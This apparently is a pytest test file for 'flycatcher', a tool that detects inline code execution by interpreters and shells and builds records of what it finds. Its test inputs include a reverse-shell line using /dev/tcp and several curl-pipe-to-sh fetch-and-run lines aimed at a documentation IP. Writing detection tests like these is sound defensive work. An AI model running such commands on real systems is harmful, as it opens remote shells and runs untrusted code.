"""What counts as code on the fly, and the record that comes of it."""

import msgspec
import pytest

from flycatcher.core.detection import (
    Policy,
    acts,
    analyse_here,
    counts,
    detect,
    elsewhere,
    judge,
    plain_shell,
    read,
    reviewable,
)
from flycatcher.core.execution import Execution, Fidelity
from flycatcher.core.snippet import Snippet


def reading(*argv, **fields):
    found = read(Execution(argv=argv, **fields))
    assert found is not None
    return found


@pytest.mark.parametrize(
    ("found", "alone", "with_shells"),
    [
        (reading("python3", "-c", "1"), True, True),
        (reading("python3", "-", stdin="pipe"), True, True),
        (reading("sh", "-c", "ls"), False, True),
        (reading("sh", stdin="pipe", stdin_text="ls"), True, True),
        (reading("sh", "-s", stdin="pipe", stdin_text="ls"), True, True),
        (reading("bash", "script.sh", env={"BASH_ENV": "/tmp/x"}), True, True),
    ],
    ids=["argument", "stdin", "a shell's argument", "a shell's stdin", "a shell's -s", "a shell's variable"],
)
def test_what_counts_by_its_command_line_alone(found, alone, with_shells):
    assert (counts(found), counts(found, shells=True)) == (alone, with_shells)


def test_a_shells_argument_counts_where_it_starts_an_interpreter_or_carries_risk():
    assert detect(Execution(argv=("sh", "-c", "ls"))) is None
    assert detect(Execution(argv=("sh", "-c", "python3 -c 1"))) is not None
    assert detect(Execution(argv=("sh", "-c", "bash -c ls"))) is None
    assert detect(Execution(argv=("sh", "-c", "bash -i >& /dev/tcp/192.0.2.1/9 0>&1"))) is not None


def test_live_what_it_starts_is_an_execution_of_its_own():
    assert detect(Execution(argv=("sh", "-c", "python3 -c 1")), live=True) is None
    assert detect(Execution(argv=("sh", "-c", "bash -i >& /dev/tcp/192.0.2.1/9 0>&1")), live=True) is not None
    assert detect(Execution(argv=("sh", "-c", "ls")), live=True, shells=True) is not None


@pytest.mark.parametrize(
    ("argv", "fields", "plain"),
    [
        (("sh", "-c", "ls"), {}, True),
        (("sh", "-c", "eval x"), {}, False),
        (("csh", "-c", "ls"), {}, False),
        (("fish", "-c", "ls"), {}, False),
        (("python3", "-c", "1"), {}, False),
        (("sh",), {"stdin": "pipe", "stdin_text": "ls"}, False),
    ],
)
def test_only_a_shells_plain_text_is_put_aside_unread(argv, fields, plain):
    assert bool(plain_shell(reading(*argv, **fields))) is plain


def test_a_waiting_text_of_a_shell_counts_by_what_it_does():
    for text, does in (
        ("less -R", False),
        ("ssh -i key", False),
        ("python3 -c 1", True),
        ("curl http://192.0.2.1/x|sh", True),
    ):
        snippet = Snippet(interpreter="sh", language="shell", vector="environment", variable="PAGER", text=text)
        assert acts(snippet, analyse_here) is does
    assert acts(Snippet(interpreter="perl", language="perl", vector="environment", text="1"), analyse_here)


@pytest.mark.parametrize("action", ["observed", "denied", "killed", "would kill", "suppressed"])
def test_a_policy_of_every_action_is_read_back(action):
    assert msgspec.json.decode(msgspec.json.encode(Policy(action)), type=Policy) == Policy(action)


def test_a_record_says_what_it_is_and_what_to_do_next():
    execution = Execution(argv=("perl", "-e", "system('id')"), context={"environment": "production"})
    found = detect(execution)
    assert found is not None
    assert found.recipe.id == "code_on_the_fly"
    assert (found.interpreter, found.interpreter_class, found.guidance) == (
        "perl",
        "scripting",
        "flycatcher guide production",
    )
    assert found.techniques[0] == "T1059"
    assert "process.spawn" in found.capabilities or "discovery.system" in found.capabilities
    assert [(text.bytes, len(text.sha256)) for text in found.texts] == [(12, 64)]
    assert detect(Execution(argv=("perl", "-e", "1"))).guidance == "flycatcher guide"
    assert detect(Execution(argv=("perl", "script.pl"))) is None
    assert detect(Execution(argv=("ls",))) is None


def test_the_same_words_elsewhere_are_the_same_detection_in_another_place():
    found = detect(Execution(argv=("perl", "-e", "1")))
    other = elsewhere(found, Execution(argv=("perl", "-e", "1"), context={"environment": "ci"}))
    assert (other.id, other.guidance) == (found.id, "flycatcher guide ci")


def test_a_text_that_stands_in_a_file_says_where():
    found = reviewable(detect(Execution(argv=("perl", "-e", "system('curl http://192.0.2.1/x | sh')"))), "Makefile:3")
    assert found.execution.context["text.written"] == "Makefile:3"
    assert "Makefile:3" in " ".join(reason.text for reason in found.risk.reasons)


@pytest.mark.parametrize(("stdin", "same"), [("whole", True), ("", True), ("partial", False), ("not captured", False)])
def test_a_shape_of_what_was_not_seen_whole_is_no_other_texts(stdin, same):
    whole = detect(Execution(argv=("python3", "-"), stdin="pipe", stdin_text="print(1)"))
    seen = detect(
        Execution(argv=("python3", "-"), stdin="pipe", stdin_text="print(1)", fidelity=Fidelity(stdin=stdin or None))
    )
    assert (seen.shape == whole.shape) is same


def test_a_judgement_of_nothing_is_no_detection():
    found = reading("sh", "-c", "ls")
    assert not judge(found).counts
    assert judge(found, shells=True).counts


@pytest.mark.parametrize(
    ("fields", "does"),
    [
        ({"language": "python", "variable": "PYTHONSTARTUP"}, True),
        ({"language": "python"}, False),
        ({"language": "shell"}, False),
        ({"language": "shell", "text": "ls"}, False),
        ({"language": "shell", "text": "python3 -c 1"}, True),
        ({"language": "shell", "text": "ls", "variable": "PAGER"}, False),
        ({"language": "shell", "text": "curl http://192.0.2.1/x|sh"}, True),
    ],
    ids=["a variable's", "unseen", "unseen shell text", "plain", "an interpreter", "a variable's plain", "an act"],
)
def test_what_is_planted_counts_by_what_it_is_or_does(fields, does):
    found = reading("sh", "-c", "ls")
    found.snippets[:] = [Snippet(**{"interpreter": "sh", "vector": "planted", "text": None} | fields)]
    assert judge(found).counts is does
    assert counts(found, shells=True) is False
